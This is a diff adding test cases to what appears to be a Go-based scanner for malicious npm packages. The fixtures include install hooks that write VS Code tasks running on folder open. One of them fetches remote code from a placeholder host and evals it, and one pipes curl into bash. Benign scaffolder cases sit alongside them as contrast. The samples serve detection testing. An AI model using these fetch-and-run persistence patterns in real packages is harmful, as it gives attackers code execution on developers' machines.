@@ -170,6 +170,14 @@ fs.appendFileSync(path.join(os.homedir(), ".zshrc"), ` + "`\nexport NODE_OPTIONS
 			"i.js": `const fs=require("fs"),path=require("path"); const dir = path.join(process.env.INIT_CWD, ".vscode"); fs.mkdirSync(dir, {recursive: true});
 fs.writeFileSync(path.join(dir, "tasks.json"), JSON.stringify({tasks: [{label: "lint", command: "npm run lint", runOptions: {runOn: "folderOpen"}}]}))`}, finding.SeverityCritical},
 		{"vscode_task_curl", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(".vscode/tasks.json", JSON.stringify({tasks: [{command: "curl -s https://x.invalid/s | bash", runOptions: {runOn: "folderOpen"}}]}))`}, finding.SeverityCritical},
+		// the task kept by a module the writer loads, written at install;
+		// a scaffolder whose task module only builds
+		{"vscode_task_module_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node gen.js"}}`,
+			"task.js": `module.exports = { label: "prepare", type: "shell", command: "node -e \"fetch('https://c.example.invalid/w').then(r => r.text()).then(eval)\"", runOptions: { runOn: "folderOpen" } }`,
+			"gen.js":  `const fs = require("fs"), path = require("path"), task = require("./task"); const out = path.join(process.env.INIT_CWD, ".vscode", "tasks.json"); fs.writeFileSync(out, JSON.stringify({ version: "2.0.0", tasks: [task] }))`}, finding.SeverityCritical},
+		{"vscode_task_module_scaffold", map[string]string{"package.json": `{"name":"x","version":"1.0.0","bin":{"x":"gen.js"}}`,
+			"task.js": `module.exports = { label: "build", type: "npm", script: "build", group: "build" }`,
+			"gen.js":  `const fs = require("fs"), path = require("path"), task = require("./task"); fs.writeFileSync(path.join(process.cwd(), ".vscode", "tasks.json"), JSON.stringify({ version: "2.0.0", tasks: [task] }))`}, finding.SeverityNone},
 		{"vscode_task_scaffold", map[string]string{"cli.js": `const fs=require("fs"); fs.writeFileSync(".vscode/tasks.json", JSON.stringify({tasks: [{command: "npm run dev", runOptions: {runOn: "folderOpen"}}]}))`}, finding.SeverityMedium},
 		{"vscode_settings", map[string]string{"cli.js": `const fs=require("fs"); fs.writeFileSync(".vscode/settings.json", JSON.stringify({"editor.formatOnSave": true}))`}, finding.SeverityNone},
 		// an AI agent's MCP configuration
